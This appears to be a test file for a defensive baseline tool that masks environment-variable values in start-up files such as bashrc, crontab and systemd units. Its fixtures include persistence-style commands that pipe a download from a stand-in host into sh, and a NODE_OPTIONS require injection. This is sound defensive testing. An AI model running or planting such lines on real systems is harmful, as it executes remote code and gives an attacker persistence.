/** What the baseline keeps of start-up files: no value of an environment variable that no record shows. */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { fed, observe } from "../../../src/analyse/index.ts";
import { createRedactor } from "../../../src/case/index.ts";
import { type AssignmentForm, maskedText } from "../../../src/collectors/persistence/assignment-text.ts";
import { someReadings } from "../../../src/collectors/index.ts";
import { formAt } from "../../../src/collectors/persistence/login/places.ts";
import type { ReadingKind } from "../../../src/model/readings.ts";
import { setting } from "../setting.ts";
import { passwd } from "./items.ts";

const redactor = createRedactor(new Uint8Array(32));
const masked = (form: AssignmentForm, text: string): string | undefined => maskedText(redactor, form, text);

const secret: readonly (readonly [AssignmentForm, string])[] = [
  ["environment", "WORD=FAKE one two\n#OLD=FAKE-old\nexport Q='FAKE q'\n"],
  ["environment", 'A="FAKE \\\nFAKE-rest"\n'],
  ["pam-env", 'WORD DEFAULT=FAKEd OVERRIDE="FAKE o"\nB=FAKEb\n'],
  ["pam-env", "WORD \\\n DEFAULT=FAKEd\n"],
  ["crontab", "WORD = FAKE a\n \"Q\"='FAKE b'\n# OLD=FAKE\n"],
  ["unit", "[Service]\nEnvironment=A=FAKEa \"B=FAKE b\" 'C=FAKE c'\n"],
  ["unit", "[Service]\nEnvironment=A=FAKEa \\\n# between\n  B=FAKEb \\\n  C=FAKEc\n#Environment=D=FAKEd\n"],
  ["unit", "[Service]\nSetCredential=x:FAKEx\n"],
  ["shell", "export WORD=FAKE-1 OTHER='FAKE 2' THIRD=\"FAKE 3\"\n"],
  ["shell", "A=FAKE-1; B=$'FAKE 2' C=FAKE\\ 3 cmd\n# D=FAKE-4\nE+=FAKE5\nF[1]=FAKE6\n"],
  ["shell", 'A=(FAKE1 FAKE2)\nB=${X:-FAKE3}\nC=$(echo FAKE4)\nD="$(get "FAKE 5" \'FAKE6\')"\n'],
  ["shell", "export \"A=FAKE a\" 'B=FAKE b'\nif true; then C=FAKEc; fi\n"],
  ["shell", "A='FAKE\nFAKE more'\nB=\"FAKE\nFAKE more\"\n"],
  ["shell", "setenv WORD FAKE1\nset -gx OTHER FAKE2 FAKE3\nset -x THIRD 'FAKE 4'; and set FOURTH FAKE5\n"],
];

describe("texts of start-up files", () => {
  it.each(secret)("%s: %j shows no value", (form, text) => {
    const shown = masked(form, text);
    expect(shown).not.toContain("FAKE");
    expect(shown).toMatch(/fp:[0-9a-f]{12} \(\d+ characters\)/);
  });

  it("keep what says what is loaded or run, so that an ordinary file stays itself", () => {
    const bashrc = [
      '# set a fancy prompt (non-color, unless we know we "want" color)',
      "HISTCONTROL=ignoreboth",
      "HISTSIZE=1000",
      '[ -x /usr/bin/lesspipe ] && eval "$(SHELL=/bin/sh lesspipe)"',
      'if [ -z "${debian_chroot:-}" ]; then debian_chroot=$(cat /etc/debian_chroot); fi',
      "#force_color_prompt=yes",
      "PS1='${debian_chroot:+($debian_chroot)}\\u@\\h:\\w\\$ '",
      "#export GCC_COLORS='error=01;31:warning=01;35'",
      "alias ls='ls --color=auto'",
      "alias ll='ls -alF'",
      "x=$(curl -s https://x.example | sh)",
      'export PATH="$HOME/bin:$PATH"',
      "y=$PATH",
    ].join("\n");
    expect(masked("shell", bashrc)).toBe(bashrc);
    const unit = "[Service]\nEnvironment=NODE_OPTIONS=--require=/tmp/x PORT=1\nExecStart=/bin/x a=b\n";
    expect(masked("unit", unit)).toBe(unit);
    const cron = "PATH=/usr/bin\n@reboot curl https://x.example/?a=b | sh\n";
    expect(masked("crontab", cron)).toBe(cron);
  });

  it("know the form by the place, and do not guess at shells that write assignments otherwise", () => {
    expect(formAt("/home/u/.config/environment.d/10-x.conf")).toBe("environment");
    expect(formAt("/etc/environment")).toBe("environment");
    expect(formAt("/home/u/.pam_environment")).toBe("pam-env");
    expect(formAt("/home/u/.bashrc")).toBe("shell");
    expect(formAt("/home/u/w/.envrc")).toBe("shell");
    expect(formAt("/home/u/.xonshrc")).toBeUndefined();
  });

  it("hide a value whatever stands around it, and take any text", () => {
    const form = fc.constantFrom<AssignmentForm>("shell", "environment", "pam-env", "unit", "crontab");
    const bits = fc.array(
      fc.constantFrom("A=", "a", " ", "\n", "'", '"', "`", "$(", "${", ")", "}", "\\", "#", "set -x B "),
      {
        maxLength: 60,
      },
    );
    fc.assert(
      fc.property(form, bits, (kind, parts) => {
        masked(kind, parts.join(""));
        const behind = masked("shell", `${parts.join("").replaceAll(/['"`\\({$#]/g, "")}\nWORD=FAKEword\n`);
        expect(behind ?? "").not.toContain("FAKE");
      }),
    );
  });

  it("give up on what does not end", () => {
    expect(masked("shell", `A="FAKE ${"x".repeat(10_000)}`)).toBeUndefined();
    expect(masked("shell", "A=$(".repeat(60_000))).toBeUndefined();
  });
});

it("no reading of a baseline holds a variable's value, of system files neither", async () => {
  const here = await setting({
    files: {
      "/etc/passwd": passwd,
      "/etc/environment": "COLOUR=FAKE-1\n",
      "/etc/environment.d/1.conf": "COLOUR=FAKE-2\n",
      "/etc/security/pam_env.conf": "COLOUR DEFAULT=FAKE-3\n",
      "/etc/crontab": "COLOUR = FAKE-4\n@reboot root /opt/y\n",
      "/var/spool/cron/crontabs/max": "COLOUR=FAKE-5\n@daily /opt/z\n",
      "/home/max/.config/systemd/user/x.service": "[Service]\nEnvironment=COLOUR=FAKE-6\nExecStart=/opt/x\n",
      "/home/max/.ssh/authorized_keys": `environment="COLOUR=FAKE-7" ssh-ed25519 ${"A".repeat(68)} me\n`,
      "~/.bashrc": "export COLOUR=FAKE-8\n",
    },
  });
  try {
    const { sources } = here;
    const kinds = new Set<ReadingKind>(fed);
    const readings = await someReadings(kinds, sources);
    const tools = { mark: sources.redactor.mark, redact: (text: string) => text };
    const { files } = observe(readings, tools);
    const all = [...files.values()].join("\n");
    expect(all.match(/FAKE-\d/g)).toBeNull();
    for (const kept of ["@reboot root /opt/y", "@daily /opt/z", "ExecStart=/opt/x", "export COLOUR=fp:"])
      expect(all).toContain(kept);
  } finally {
    await here.end();
  }
});
